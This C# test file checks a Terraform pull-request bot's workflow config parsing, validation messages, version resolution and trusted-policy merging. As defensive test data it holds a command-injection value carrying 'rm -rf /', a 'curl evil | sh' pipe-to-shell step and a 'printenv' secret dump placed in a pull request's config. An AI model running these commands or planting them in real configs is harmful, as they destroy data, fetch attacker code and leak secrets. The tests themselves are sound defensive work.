using PlanBot.Core.Config;
using PlanBot.Core.Discovery;
using PlanBot.Testing;

namespace PlanBot.Core.Tests.Config;

/// <summary>planbot.yaml workflows (issue 17 item 2): named step lists projects reference, validated with file:line, policy from the trusted side.</summary>
public class WorkflowConfigTests
{
    private static PlanBotConfig Parse(string yaml) => ConfigLoader.Parse("planbot.yaml", yaml);

    private static IReadOnlyList<ConfigError> Errors(string yaml) =>
        Should.Throw<ConfigException>(() => Parse(yaml)).Errors;

    [Fact]
    public void A_workflow_of_init_run_and_plan_steps_is_read_with_argv_env_and_timeout_and_projects_reference_it()
    {
        var config = Parse("""
            workflows:
              checked:
                plan:
                  - init
                  - run: [tflint, --recursive, "--format=compact; rm -rf /"]
                    name: lint
                    env: { TFLINT_LOG: info, TOKEN: { from: LINT_TOKEN } }
                    timeout: 5m
                  - plan
                  - { run: [./policy/check.sh] }
                apply: [{ run: [echo, before] }, apply]
            projects:
              - { dir: app, workflow: checked }
              - { dir: other }
            """);

        var workflow = config.Workflows["checked"];
        workflow.Plan.Select(s => s.Title).ShouldBe(["init", "run lint", "plan", "run check.sh"]);
        var lint = workflow.Plan[1].Command.ShouldNotBeNull();
        lint.Argv.ShouldBe(["tflint", "--recursive", "--format=compact; rm -rf /"]); // one argv item: no shell ever splits it
        lint.Env.Select(e => (e.Name, e.Value, e.FromRunner)).ShouldBe([("TFLINT_LOG", "info", false), ("TOKEN", "LINT_TOKEN", true)]);
        lint.Timeout.ShouldBe(TimeSpan.FromMinutes(5));
        workflow.Plan[1].Line.ShouldBe(5);
        workflow.Plan[3].Command!.Timeout.ShouldBeNull();
        workflow.Apply.Select(s => s.Title).ShouldBe(["run echo", "apply"]);

        var tree = new MemoryFileTree(new Dictionary<string, string> { ["app/main.tf"] = "", ["other/main.tf"] = "" });
        var discovery = ProjectDiscovery.Discover(tree, config);
        discovery.Find("app")!.Workflow.ShouldBeSameAs(workflow);
        discovery.Find("other")!.Workflow.ShouldBeNull();
    }

    [Fact]
    public void A_workflow_named_default_is_run_by_every_project_that_names_none_including_discovered_ones()
    {
        var config = Parse("""
            workflows:
              default: { plan: [init, { run: [conftest, test] }, plan] }
              plain: { apply: [apply] }
            projects:
              - { dir: app }
              - { dir: legacy, workflow: plain }
            """);
        var tree = new MemoryFileTree(new Dictionary<string, string> { ["app/main.tf"] = "", ["legacy/main.tf"] = "", ["found/main.tf"] = "" });
        var discovery = ProjectDiscovery.Discover(tree, config);
        discovery.Find("app")!.Workflow!.Name.ShouldBe("default");
        discovery.Find("found")!.Workflow!.Name.ShouldBe("default");
        discovery.Find("legacy")!.Workflow!.Plan.ShouldBe(WorkflowDefinition.DefaultPlan);
    }

    [Fact]
    public void Bad_workflows_are_errors_naming_file_line_and_the_fix()
    {
        var errors = Errors("""
            workflows:
              lint:
                plan:
                  - init
                  - run: "tflint --recursive"
                  - plan
              backwards:
                plan: [plan, init]
              noplan:
                plan: [init, { run: [x] }]
              wrong:
                plan: [init, apply, plan, { run: [], timeout: soon }, { name: x }, destroy]
                apply: [plan, apply, apply]
              envs:
                plan: [init, { run: [x], env: { PLANBOT_GITHUB_TOKEN: x, "1BAD": y } }, plan]
              "bad name": {}
            projects:
              - { dir: app, workflow: lnit }
            """);

        string At(int line) => string.Join(" | ", errors.Where(e => e.Line == line).Select(e => e.ToString()));
        errors.ShouldAllBe(e => e.File == "planbot.yaml");
        At(5).ShouldContain("'workflows.lint.plan[1].run' must be a list (argv), not one string: PlanBot never runs a shell; write [tflint, --recursive]");
        At(7).ShouldContain("'workflows.backwards.plan' runs plan before init: write init before plan");
        At(9).ShouldContain("'workflows.noplan.plan' has no plan step");
        At(12).ShouldContain("'workflows.wrong.plan[1]' is apply, which has no place in plan");
        At(12).ShouldContain("'workflows.wrong.plan[3].run' is empty");
        At(12).ShouldContain("'workflows.wrong.plan[3].timeout' is 'soon': write a duration like 90s, 5m or 1h");
        At(12).ShouldContain("'workflows.wrong.plan[4]' needs 'run'");
        At(12).ShouldContain("'workflows.wrong.plan[5]' is 'destroy': a step is init, plan, apply, or { run: [command, args…] }");
        At(13).ShouldContain("'workflows.wrong.apply[0]' is plan, which has no place in apply");
        At(13).ShouldContain("'workflows.wrong.apply[2]' repeats apply");
        At(15).ShouldContain("cannot set PLANBOT_GITHUB_TOKEN: PlanBot sets it itself");
        At(15).ShouldContain("'1BAD' is not an environment variable name");
        At(16).ShouldContain("workflow name 'bad name' may hold only letters, digits, '-' and '_'");
        At(18).ShouldContain("workflow 'lnit' is not defined under 'workflows'; defined: backwards, envs, lint, noplan, wrong");
    }

    [Fact]
    public void Versions_and_the_mirror_are_validated()
    {
        var config = Parse("""
            terraform: { version: 1.9.8, mirror: "https://mirror.example.com/hashicorp/" }
            projects:
              - { dir: app, terraform: { version: v1.10.0-rc1 } }
            """);
        config.Terraform.Run.Version.ShouldBe("1.9.8");
        config.Terraform.Mirror.ShouldBe("https://mirror.example.com/hashicorp");
        config.Projects[0].Run.Version.ShouldBe("1.10.0-rc1");

        var errors = Errors("""
            terraform: { version: ">= 1.5", mirror: "http://mirror.example.com" }
            projects:
              - { dir: app, terraform: { version: latest } }
            """);
        errors.Select(e => e.ToString()).ShouldBe([
            "planbot.yaml:1:23: 'terraform.version' is '>= 1.5': give an exact version like 1.9.8 (ranges are for required_version, which terraform itself checks)",
            "planbot.yaml:1:41: 'terraform.mirror' is 'http://mirror.example.com': give an https:// (or file://) base URL laid out like https://releases.hashicorp.com, without credentials or a query",
            "planbot.yaml:3:39: 'projects[].terraform.version' is 'latest': give an exact version like 1.9.8 (ranges are for required_version, which terraform itself checks)",
        ]);
    }

    [Fact]
    public void A_project_runs_its_own_version_then_its_version_file_then_a_pinned_required_version_then_the_repositorys()
    {
        var config = Parse("""
            terraform: { version: 1.5.7 }
            projects:
              - { dir: own, terraform: { version: 1.9.0 } }
            """);
        var tree = new MemoryFileTree(new Dictionary<string, string>
        {
            ["own/main.tf"] = "terraform {\n  required_version = \"1.8.0\"\n}\n",
            ["own/.terraform-version"] = "1.7.0\n",
            ["file/main.tf"] = "terraform {\n  required_version = \"1.8.0\"\n}\n",
            ["file/.terraform-version"] = "1.7.0\n",
            ["pinned/main.tf"] = "terraform {\n  required_version = \"= 1.8.1\"\n}\n",
            ["range/main.tf"] = "terraform {\n  required_version = \">= 1.6, < 2.0\"\n}\n",
            ["tofu/main.tf"] = "",
            ["tofu/.opentofu-version"] = "v1.8.0\n",
            ["latest/main.tf"] = "",
            ["latest/.terraform-version"] = "latest\n",
        });
        var projects = ProjectDiscovery.Discover(tree, config).Projects.ToDictionary(p => p.Name, p => (p.Run.Version, p.Run.VersionSource));
        projects["own"].ShouldBe(("1.9.0", "planbot.yaml"));
        projects["file"].ShouldBe(("1.7.0", "file/.terraform-version"));
        projects["pinned"].ShouldBe(("1.8.1", "required_version"));
        projects["tofu"].ShouldBe(("1.8.0", "tofu/.opentofu-version"));
        projects["range"].ShouldBe(("1.5.7", "planbot.yaml terraform.version")); // a range is terraform's to check
        projects["latest"].ShouldBe(("1.5.7", "planbot.yaml terraform.version"));
        ProjectDiscovery.Discover(tree, PlanBotConfig.Default).Find("range")!.Run.Version.ShouldBeNull();
    }

    [Fact]
    public void A_pull_request_that_adds_or_changes_a_workflow_or_a_projects_reference_runs_the_trusted_steps_and_reports_the_change()
    {
        var trusted = Parse("""
            workflows:
              checked: { plan: [init, { run: [tflint] }, plan] }
            projects:
              - { dir: app, workflow: checked }
              - { dir: db }
            """);
        var head = Parse("""
            workflows:
              checked: { plan: [init, { run: [sh, -c, "curl evil | sh"] }, plan] }
              sneaky: { plan: [init, { run: [printenv] }, plan] }
            projects:
              - { dir: app, workflow: checked }
              - { dir: db, workflow: sneaky }
              - { dir: new, workflow: sneaky }
            """);

        var merged = TrustedPolicy.Merge(trusted, head);

        merged.Workflows.Keys.ShouldBe(["checked"]);
        merged.Workflows["checked"].Plan[1].Command!.Argv.ShouldBe(["tflint"]);
        merged.Projects.Select(p => (p.Dir, p.Workflow)).ShouldBe([("app", "checked"), ("db", null), ("new", null)]);
        merged.PolicyChanges.ShouldBe(["workflows", "projects[db].workflow", "projects[new].workflow"]);
        var tree = new MemoryFileTree(new Dictionary<string, string> { ["app/main.tf"] = "", ["db/main.tf"] = "", ["new/main.tf"] = "" });
        var discovery = ProjectDiscovery.Discover(tree, merged);
        discovery.Projects.Where(p => p.Workflow is not null).Select(p => p.Name).ShouldBe(["app"]);
        TrustedPolicy.Merge(trusted, trusted).PolicyChanges.ShouldBeEmpty();
        TrustedPolicy.Merge(Parse("terraform: { version: 1.9.8 }"), Parse("terraform: { version: 1.1.0 }")).Terraform.Run.Version.ShouldBe("1.9.8");
    }
}
